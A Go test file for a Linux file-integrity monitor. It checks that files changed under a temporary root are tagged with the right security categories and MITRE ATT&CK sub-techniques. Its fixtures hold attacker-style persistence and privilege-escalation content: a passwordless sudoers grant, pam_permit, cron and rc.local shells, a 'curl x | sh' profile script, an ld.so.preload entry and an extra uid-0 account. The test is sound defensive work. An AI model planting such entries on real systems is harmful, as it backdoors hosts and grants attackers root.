//go:build linux

package main

import (
	"bufio"
	"encoding/json"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"vigil/alerts"
	"vigil/internal/fimtest"
)

// securityCase is one row of the classification table, shown by a real
// change under a test root: the table's patterns match the end of the
// absolute path, so <tmp>/etc/cron.d/x is classified as /etc/cron.d/x.
type securityCase struct {
	name   string
	path   string // relative to the root
	change func(t *testing.T, path string)
	root   string   // why the change needs root, "" when it does not
	tags   []string // vigil.security, exactly
	sub    string   // threat.technique.subtechnique.id, "" for none
	check  func(t *testing.T, ev alerts.Event)
}

func write(content string) func(*testing.T, string) {
	return func(t *testing.T, path string) {
		t.Helper()
		must(t, os.MkdirAll(path[:strings.LastIndexByte(path, '/')], 0o755))
		must(t, os.WriteFile(path, []byte(content), 0o644))
	}
}

func chmod(mode os.FileMode) func(*testing.T, string) {
	return func(t *testing.T, path string) { t.Helper(); must(t, os.Chmod(path, mode)) }
}

func command(name string, args ...string) func(*testing.T, string) {
	return func(t *testing.T, path string) {
		t.Helper()
		if out, err := exec.Command(name, append(args, path)...).CombinedOutput(); err != nil {
			t.Fatalf("%s %s: %v\n%s", name, args, err, out)
		}
	}
}

var securityCases = []securityCase{
	{name: "setuid", path: "usr/bin/prog", change: chmod(0o4755 | os.ModeSetuid), tags: []string{"setuid_added"}, sub: "T1548.001"},
	{name: "setgid", path: "usr/bin/prog2", change: chmod(0o755 | os.ModeSetgid), tags: []string{"setgid_added"}, sub: "T1548.001"},
	{name: "capabilities", path: "usr/bin/ping", root: "setcap", change: command("setcap", "cap_net_raw,cap_setuid=ep"),
		tags: []string{"capabilities_changed"}, check: func(t *testing.T, ev alerts.Event) {
			if ev.Vigil.Capabilities != "cap_setuid,cap_net_raw=ep" {
				t.Errorf("vigil.capabilities = %q, want getcap's cap_setuid,cap_net_raw=ep", ev.Vigil.Capabilities)
			}
			if ev.Vigil.Xattrs[alerts.CapabilityXattr] == "" {
				t.Errorf("vigil.xattrs %v lacks the raw %s", ev.Vigil.Xattrs, alerts.CapabilityXattr)
			}
		}},
	{name: "privileged rewritten", path: "usr/bin/su", change: write("#!/bin/sh\nexec sh\n"), tags: []string{"privileged_program_rewritten"}, sub: "T1548.001"},
	{name: "owner of executable", path: "usr/bin/tool", root: "chown", change: func(t *testing.T, p string) { must(t, os.Lchown(p, 1000, 1000)) },
		tags: []string{"owner_of_executable_changed"}},
	{name: "new executable", path: "usr/local/bin/new", change: func(t *testing.T, p string) {
		write("#!/bin/sh\n")(t, p)
		must(t, os.Chmod(p, 0o755))
	}, tags: []string{"new_executable"}},
	{name: "made executable", path: "usr/local/bin/script", change: chmod(0o755), tags: []string{"made_executable"}},
	{name: "world writable shadow", path: "etc/shadow", change: chmod(0o666), tags: []string{"world_writable", "credentials"}, sub: "T1222.002"},
	{name: "immutable", path: "etc/hosts", root: "chattr", change: func(t *testing.T, p string) { setFlags(t, p, fsImmutable) },
		tags: []string{"immutable_changed"}, sub: "T1222.002", check: func(t *testing.T, ev alerts.Event) {
			if !strings.HasPrefix(ev.Vigil.FlagsText, "----i---") || ev.Vigil.Flags == "" {
				t.Errorf("vigil.flags %q, flags_text %q: want the raw value and lsattr's i", ev.Vigil.Flags, ev.Vigil.FlagsText)
			}
		}},
	{name: "uid 0 account", path: "etc/passwd", change: write("root:x:0:0::/root:/bin/sh\nalice:x:1000:100::/home/alice:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n"),
		tags: []string{"uid0_account", "credentials"}, sub: "T1136.001", check: func(t *testing.T, ev alerts.Event) {
			if ev.Vigil.Accounts == nil || !slices.Equal(ev.Vigil.Accounts.UID0, []string{"toor"}) {
				t.Errorf("vigil.accounts = %+v, want uid0 [toor]", ev.Vigil.Accounts)
			}
		}},
	{name: "wheel member", path: "etc/group", change: write("root:x:0:\nwheel:x:10:alice,mallory\nusers:x:100:\n"),
		tags: []string{"credentials"}, check: func(t *testing.T, ev alerts.Event) {
			want := &alerts.Accounts{Privileged: map[string][]string{"wheel": {"alice", "mallory"}}}
			if diff := cmp.Diff(want, ev.Vigil.Accounts); diff != "" {
				t.Errorf("vigil.accounts (-want +got):\n%s", diff)
			}
		}},
	{name: "sudoers", path: "etc/sudoers.d/evil", change: write("mallory ALL=(ALL) NOPASSWD: ALL\n"), tags: []string{"auth_config"}, sub: "T1548.003"},
	{name: "pam", path: "etc/pam.d/sshd", change: write("auth sufficient pam_permit.so\n"), tags: []string{"auth_config"}, sub: "T1556.003"},
	{name: "sshd_config", path: "etc/ssh/sshd_config", change: write("PermitRootLogin yes\n"), tags: []string{"auth_config"}},
	{name: "cron", path: "etc/cron.d/backdoor", change: write("* * * * * root sh -i\n"), tags: []string{"persistence"}, sub: "T1053.003"},
	{name: "systemd", path: "etc/systemd/system/multi-user.target.wants/evil.service", change: write("[Service]\n"), tags: []string{"persistence"}, sub: "T1543.002"},
	{name: "authorized_keys", path: "root/.ssh/authorized_keys", change: write("ssh-ed25519 AAAA mallory\n"), tags: []string{"persistence"}, sub: "T1098.004"},
	{name: "shell profile", path: "etc/profile.d/evil.sh", change: write("curl x | sh\n"), tags: []string{"persistence"}, sub: "T1546.004"},
	{name: "rc.local", path: "etc/rc.local", change: write("sh -i\n"), tags: []string{"persistence"}, sub: "T1037.004"},
	{name: "udev", path: "etc/udev/rules.d/99-evil.rules", change: write("RUN+=\"/tmp/x\"\n"), tags: []string{"persistence"}, sub: "T1546.017"},
	{name: "ld.so.preload", path: "etc/ld.so.preload", change: write("/tmp/evil.so\n"), tags: []string{"loader_preload"}, sub: "T1574.006"},
	{name: "kernel module", path: "lib/modules/6.1.0/extra/evil.ko", change: write("\x7fELF"), tags: []string{"kernel_module"}, sub: "T1547.006"},
	{name: "plain config", path: "etc/motd", change: write("hello\n")},
	{name: "lookalike", path: "etc/cron.d.bak/job", change: write("x\n")},
}

// TestSecurityClassification: each row of the classification table,
// through check --json on real files.
func TestSecurityClassification(t *testing.T) {
	t.Parallel()
	s := newSetup(t, fimtest.Tree{
		"usr/bin/prog":         fimtest.File("#!/bin/sh\n").Mode(0o755),
		"usr/bin/prog2":        fimtest.File("#!/bin/sh\n").Mode(0o755),
		"usr/bin/ping":         fimtest.File("#!/bin/sh\n").Mode(0o755),
		"usr/bin/su":           fimtest.File("#!/bin/sh\n").Mode(0o4755),
		"usr/bin/tool":         fimtest.File("#!/bin/sh\n").Mode(0o755),
		"usr/local/bin/script": fimtest.File("#!/bin/sh\n").Mode(0o644),
		"etc/shadow":           fimtest.File("root:*:1::::::\n").Mode(0o640),
		"etc/hosts":            fimtest.File("127.0.0.1 localhost\n"),
		"etc/passwd":           fimtest.File("root:x:0:0::/root:/bin/sh\nalice:x:1000:100::/home/alice:/bin/sh\n"),
		"etc/group":            fimtest.File("root:x:0:\nwheel:x:10:alice\nusers:x:100:\n"),
		"etc/pam.d/sshd":       fimtest.File("auth required pam_unix.so\n"),
		"etc/ssh/sshd_config":  fimtest.File("PermitRootLogin no\n"),
		"etc/motd":             fimtest.File("hi\n"),
		"root/.ssh":            fimtest.Dir(0o700),
	})
	mustRun(t, 0, s.args("init")...)
	for _, tc := range securityCases {
		if tc.root == "" || os.Geteuid() == 0 {
			tc.change(t, s.path(tc.path))
		}
	}
	out := vigil(t, s.args("check", "--json")...)
	events := map[string]alerts.Event{}
	sc := bufio.NewScanner(strings.NewReader(out.stdout))
	for sc.Scan() {
		var ev alerts.Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		if ev.File != nil {
			events[ev.File.Path] = ev
		}
	}
	for _, tc := range securityCases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.root != "" {
				fimtest.NeedRoot(t, tc.root)
			}
			ev, ok := events[s.path(tc.path)]
			if !ok {
				t.Fatalf("no event for %s in\n%s", tc.path, out.stdout)
			}
			var tags []string
			if ev.Vigil != nil {
				tags = ev.Vigil.Security
			}
			if !slices.Equal(tags, tc.tags) {
				t.Errorf("vigil.security = %q, want %q", tags, tc.tags)
			}
			var subs []string
			if ev.Threat != nil {
				subs = ev.Threat.Technique.Subtechnique.ID
				if ev.Threat.Framework != "MITRE ATT&CK" || len(ev.Threat.Technique.ID) != len(subs) ||
					!strings.HasPrefix(tc.sub, ev.Threat.Technique.ID[0]+".") {
					t.Errorf("threat = %+v, want MITRE ATT&CK with technique and sub-technique of %s", ev.Threat, tc.sub)
				}
			}
			if want := []string{tc.sub}; tc.sub == "" && subs != nil || tc.sub != "" && !slices.Equal(subs, want) {
				t.Errorf("threat.technique.subtechnique.id = %q, want %q", subs, tc.sub)
			}
			if tc.check != nil {
				tc.check(t, ev)
			}
		})
	}
}
